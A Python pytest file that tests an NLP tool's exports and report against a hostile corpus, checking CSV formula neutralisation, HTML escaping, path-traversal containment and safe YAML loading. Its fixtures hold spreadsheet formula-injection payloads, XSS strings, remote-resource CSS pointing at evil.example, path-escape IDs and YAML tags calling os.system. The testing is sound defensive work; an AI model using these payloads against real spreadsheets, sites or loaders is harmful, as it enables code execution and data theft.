"""Documents are untrusted: nothing in them may act through the outputs (issue 7).

One run over a corpus whose texts and metadata carry formulas, markup,
scripts, path tricks, line breaks, quotes and non-Latin scripts; then the CSV
exports are checked for formula injection and read back through pandas, the
Parquet and JSONL exports for exact round trips, the HTML report for escaping
and remote resources, the file system for anything written outside the output
folder. The rule files (actor dictionary, lexicons) go through a safe YAML
loader whose errors name the file and line.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import uuid
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nlp_tools.errors import NlpToolsError
from nlp_tools.export import safe_cell, write_table
from nlp_tools.resources import load_yaml
from nlp_tools.store import Store

NLP_TOOLS = shutil.which("nlp-tools") or str(Path(sys.executable).parent / "nlp-tools")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TOKEN = uuid.uuid4().hex[:12]
ESCAPES = [f"../../nlp-tools-escape-{TOKEN}", f"/tmp/nlp-tools-escape-{TOKEN}", f"..\\..\\nlp-tools-escape-{TOKEN}",
           f"out/../../../nlp-tools-escape-{TOKEN}/x"]
HOSTILE_TXT = (
    "Header <script>alert(\"x\")</script>\n</pre><script>alert(4)</script>\n\n"
    "There has been no coordination with Russia, Pentagon Press Secretary Peter Cook said on Oct. 7, 2015.\n\n"
    "<style>body{background:url(https://evil.example/x.png)}</style><link rel=stylesheet href=https://evil.example/s.css>\n"
)
RECORDS = [
    {"doc_id": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "title": "+cmd|' /C calc'!A0",
     "source": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "javascript:alert(1)", "date": "2015-10-07",
     "text": "There has been no coordination with Russia, Pentagon Press Secretary Peter Cook said. "
             "<script>alert('text')</script>\n=HYPERLINK(\"http://evil.example\")"},
    {"doc_id": ESCAPES[0], "title": "Line one\nline two\r\nthree \"quoted\" 'single', and a comma", "date": "2015-10-08",
     "text": "MOSCOW, Oct. 8, 2015 \u2014 The Russian Defence Ministry said it had informed the U.S. side in advance of the "
             "strikes, spokesman \u0418\u0433\u043e\u0440\u044c \u041a\u043e\u043d\u0430\u0448\u0435\u043d\u043a\u043e\u0432 said."},
    {"doc_id": ESCAPES[1], "title": "<img src=x onerror=alert(1)>", "source": "</td><script>alert(2)</script>",
     "url": "https://evil.example/track.gif", "date": "2016-09-18",
     "text": "-2+3 The ministry said \"Turkey had been notified before the strikes\", a spokesman said. "
             "\u5317\u4eac said nothing; \u0627\u0644\u0648\u0632\u0627\u0631\u0629 neither."},
    {"doc_id": "\"><svg onload=alert(3)>", "title": "-1-1", "source": "\u00abWire\u00bb \u2014 \u0422\u0410\u0421\u0421",
     "date": "2015-11-24",
     "text": "ANKARA, Nov. 24, 2015 \u2014 Turkey said it had warned the Russian jet ten times before it was shot down, "
             "Foreign Minister Mevl\u00fct \u00c7avu\u015fo\u011flu said."},
    {"doc_id": ESCAPES[2], "title": "@title", "date": "2017-04-07",
     "text": "The United States informed Russia before the strikes on Shayrat, a U.S. official said."},
    {"doc_id": ESCAPES[3], "title": "\u200b=zero-width first", "date": "2017-04-08",
     "text": "Moscow said it would suspend the memorandum on flight safety over Syria, the Foreign Ministry said."},
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, nlp):
    """One run over the hostile corpus; returns (input folder, output folder, every file there before)."""
    import nlp_tools

    base = tmp_path_factory.mktemp("hostile")
    src = base / "in"
    src.mkdir()
    (src / "=cmd.txt").write_text(HOSTILE_TXT)
    with open(src / "feed.jsonl", "w", encoding="utf-8") as fh:
        for record in RECORDS:
            fh.write(json.dumps(record, ensure_ascii=False) + "\n")
    out = base / "deep" / "out"
    before = {p for p in base.rglob("*")}
    cwd_before = set(os.listdir())
    result = nlp_tools.run([str(src)], out=out, nlp=nlp)
    assert not result.ingest.problems and result.extract.documents == len(RECORDS) + 1
    assert set(os.listdir()) == cwd_before
    return base, out, before


def test_doc_ids_that_look_like_paths_write_nothing_outside_the_output_folder(hostile):
    base, out, before = hostile
    created = {p for p in base.rglob("*")} - before
    outside = [p for p in created if p != out and out not in p.parents and p not in out.parents]
    assert created and outside == []
    assert not list(Path("/tmp").glob(f"nlp-tools-escape-{TOKEN}*"))
    assert not list(base.parent.glob(f"*nlp-tools-escape-{TOKEN}*"))
    assert not list(out.glob(".*"))  # no temporary files left behind
    documents = pd.read_csv(out / "documents.csv", keep_default_na=False)
    assert set(ESCAPES) <= set(documents["doc_id"])  # kept as data, exactly


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["claims.csv", "documents.csv", "scores.csv"])
def test_csv_outputs_hold_no_cell_a_spreadsheet_would_run(hostile, name):
    _, out, _ = hostile
    rows = _cells(out / name)
    assert len(rows) > 1
    risky = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_START) and not _is_number(cell)]
    assert risky == []
    neutralised = [cell for row in rows[1:] for cell in row if cell.startswith("'")]
    if name != "scores.csv":
        assert neutralised  # the corpus has formulas in doc_id, title, source


def _string_columns(frame: pd.DataFrame) -> list[str]:
    return [c for c in frame.columns if frame[c].dtype == object and frame[c].map(lambda v: isinstance(v, str) or v is None).all()]


@pytest.mark.parametrize("table", ["claims", "documents", "problems", "runs"])
def test_csv_export_reads_back_through_pandas(hostile, tmp_path, table):
    """Exactly, but for the apostrophe before a would-be formula: newlines, CR, quotes, commas, scripts."""
    _, out, _ = hostile
    with Store(out / "nlp_tools.duckdb", read_only=True) as store:
        frame = store.table(table)
    path = write_table(frame, tmp_path / f"{table}.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(back.columns) == list(frame.columns) and len(back) == len(frame)
    for column in _string_columns(frame):
        expected = [safe_cell("" if v is None else v) for v in frame[column]]
        assert back[column].tolist() == expected, column
    if table == "documents":
        titles = back["title"].tolist()
        assert "Line one\nline two\r\nthree \"quoted\" 'single', and a comma" in titles
        assert "'+cmd|' /C calc'!A0" in titles and "'-1-1" in titles and "'@title" in titles
    numbers = pd.read_csv(path)
    for column in frame.columns:
        if pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(frame[column]):
            pd.testing.assert_series_equal(numbers[column], frame[column], check_dtype=False, check_names=False)


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
@pytest.mark.parametrize("table", ["claims", "documents"])
def test_parquet_and_jsonl_exports_keep_values_exactly(hostile, tmp_path, fmt, table):
    _, out, _ = hostile
    with Store(out / "nlp_tools.duckdb", read_only=True) as store:
        frame = store.table(table)
    path = write_table(frame, tmp_path / f"{table}.{fmt}")
    if fmt == "parquet":
        back = pd.read_parquet(path)
    else:
        with open(path, encoding="utf-8") as fh:
            back = pd.DataFrame([json.loads(line) for line in fh], columns=list(frame.columns))
    assert list(back.columns) == list(frame.columns) and len(back) == len(frame)
    for column in _string_columns(frame):
        assert back[column].tolist() == frame[column].tolist(), column
    if table == "documents":  # not neutralised: no spreadsheet runs these
        assert "'" + RECORDS[0]["doc_id"] not in back["doc_id"].tolist()
        assert RECORDS[0]["doc_id"] in back["doc_id"].tolist() and "-1-1" in back["title"].tolist()


@settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck))
@given(values=st.lists(st.text(st.characters(blacklist_categories=["Cs"]), max_size=40), min_size=1, max_size=6))
def test_any_text_round_trips_through_all_three_formats(tmp_path_factory, values):
    folder = tmp_path_factory.mktemp("formats")
    frame = pd.DataFrame({"text": values, "n": range(len(values))})
    csv_back = pd.read_csv(write_table(frame, folder / "t.csv"), dtype=str, keep_default_na=False)
    assert csv_back["text"].tolist() == [safe_cell(v) for v in values]
    assert pd.read_parquet(write_table(frame, folder / "t.parquet"))["text"].tolist() == values
    with open(write_table(frame, folder / "t.jsonl"), encoding="utf-8") as fh:
        assert [json.loads(line)["text"] for line in fh] == values


class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self.scripts: list[str] = []
        self.svg_tags: list[str] = []
        self._in = ""
        self._svg = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in = tag if tag in ("style", "script") else ""
        if tag == "svg":
            self._svg += 1
        elif self._svg:
            self.svg_tags.append(tag)

    def handle_endtag(self, tag):
        self._in = ""
        if tag == "svg":
            self._svg -= 1

    def handle_data(self, data):
        {"style": self.styles, "script": self.scripts}.get(self._in, self.text).append(data)


def test_report_shows_document_markup_as_text_and_loads_nothing_remote(hostile):
    _, out, _ = hostile
    page = _Page()
    page.feed((out / "report.html").read_text(encoding="utf-8"))
    tags = [tag for tag, _ in page.tags]
    assert not {"iframe", "object", "embed", "link", "base", "form", "math", "frame", "foreignobject"} & set(tags)
    assert tags.count("style") == 1 and tags.count("img") == 1  # the report's own
    # the one script is the report's own (the claim table's filters); the SVGs are its dyad charts
    from nlp_tools.report import _SCRIPT

    assert tags.count("script") == 1 and page.scripts == [_SCRIPT]
    assert all(dict(attrs).get("class") == "chart" for tag, attrs in page.tags if tag == "svg")
    assert set(page.svg_tags) <= {"title", "line", "text", "circle", "polyline"}
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("src", "href", "action", "srcset", "background", "poster"):
                assert (value or "").startswith(("data:image/png;base64,", "#")), (tag, name, value)
            assert "javascript:" not in (value or "").lower() and "url(" not in (value or "").lower()
        if tag == "meta":
            assert dict(attrs).get("http-equiv") is None
    assert "url(" not in "".join(page.styles) and "@import" not in "".join(page.styles)
    shown = "".join(page.text)
    # the documents' own markup is there, as text
    for fragment in ["<script>alert(4)</script>", "</pre><script>alert(4)</script>",
                     "<style>body{background:url(https://evil.example/x.png)}</style>",
                     "\"><svg onload=alert(3)>", "<img src=x onerror=alert(1)>", "</td><script>alert(2)</script>",
                     "\u0418\u0433\u043e\u0440\u044c \u041a\u043e\u043d\u0430\u0448\u0435\u043d\u043a\u043e\u0432"]:
        assert fragment in shown, fragment


def test_timeline_draws_names_with_dollar_signs(tmp_path):
    """A `$` in an organisation's name is a dollar sign, not a formula matplotlib fails to parse."""
    from nlp_tools.report import plot_timeline
    from nlp_tools.scoring import compute_scores

    counts = pd.DataFrame({
        "speaker_org": ["Fund $\\frac{1 $x^{", "Group $5$ trust"], "speaker_country": ["", ""],
        "period_start": [pd.Timestamp("2015-10-01"), pd.Timestamp("2015-11-01")],
        "acknowledge": [3, 1], "deny": [1, 2], "conditional": [0, 0], "evade": [0, 1],
        "notification_ack": [1, 0], "deconfliction_ack": [0, 0], "cooperation_deny": [1, 2],
    })
    path = plot_timeline(compute_scores(counts), tmp_path / "t.png")
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# -- rule files: a safe loader, errors with file and line -------------------------------------

EVIL = "organisations:\n  - name: X\n    kind: !!python/object/apply:os.system [\"touch {marker}\"]\n"


def test_yaml_that_asks_for_python_objects_is_refused_and_runs_nothing(tmp_path):
    marker = tmp_path / "pwned"
    evil = tmp_path / "actors.yaml"
    evil.write_text(EVIL.format(marker=marker))
    with pytest.raises(NlpToolsError) as info:
        load_yaml(evil)
    assert str(info.value) == (f"{evil}: YAML error at line 3, column 11: could not determine a constructor for the "
                               "tag 'tag:yaml.org,2002:python/object/apply:os.system'")
    for tag in ("!!python/object/new:os.system [\"touch {m}\"]", "!!python/name:os.system", "!!python/module:os"):
        evil.write_text("x: " + tag.format(m=marker) + "\n")
        with pytest.raises(NlpToolsError, match=f"^{evil}: YAML error at line 1, column 4: could not determine a constructor"):
            load_yaml(evil)
    assert not marker.exists()


def test_words_yaml_1_1_reads_as_booleans_stay_words(tmp_path):
    # a word list may hold "no", "on" or "off": only true and false are booleans
    words = tmp_path / "stance.yaml"
    words.write_text("negation: [not, no, never]\nparticles: {call: off, turn: on, y: yes}\nflag: true\n")
    assert load_yaml(words) == {"negation": ["not", "no", "never"], "particles": {"call": "off", "turn": "on", "y": "yes"},
                                "flag": True}


@pytest.mark.parametrize("content,message", [
    ("organisations:\n  - name: A\n  - name: [B\n  - name: C\n", "YAML error at line 4, column 9: did not find expected ',' or ']'"),
    ("people:\n  - name: A\n\tbad: tab\n", "YAML error at line 3, column 1: found a tab character that violates indentation"),
    ("a: 1\na: {b: 2\n", "YAML error at line 3, column 1: did not find expected ',' or '}'"),
    ("key: \"unterminated\n", "YAML error at line 2, column 1: found unexpected end of stream"),
])
def test_yaml_syntax_errors_name_the_file_and_line(tmp_path, content, message):
    path = tmp_path / "lexicon.yaml"
    path.write_text(content)
    with pytest.raises(NlpToolsError) as info:
        load_yaml(path)
    assert str(info.value) == f"{path}: {message}"


def test_rule_files_of_the_wrong_shape_or_encoding_name_the_file(tmp_path):
    from nlp_tools.claims.actors import ActorDictionary

    latin = tmp_path / "latin.yaml"
    latin.write_bytes("people:\n  - name: Fran\u00e7ois\n".encode("latin-1"))
    with pytest.raises(NlpToolsError, match=f"^{latin}: not UTF-8 text"):
        load_yaml(latin)
    listed = tmp_path / "list.yaml"
    listed.write_text("- just\n- a list\n")
    with pytest.raises(NlpToolsError, match=f"^{listed}: an actor dictionary must be a mapping"):
        ActorDictionary.load([listed])


def test_the_command_refuses_an_evil_actor_file_in_one_line(tmp_path):
    marker = tmp_path / "pwned"
    evil = tmp_path / "my_actors.yaml"
    evil.write_text(EVIL.format(marker=marker))
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("There has been no coordination with Russia, Peter Cook said.\n")
    done = subprocess.run([NLP_TOOLS, "run", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--actors", str(evil)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 1
    assert done.stderr == (f"error: {evil}: YAML error at line 3, column 11: could not determine a constructor for the "
                           "tag 'tag:yaml.org,2002:python/object/apply:os.system'\n")
    assert not marker.exists()
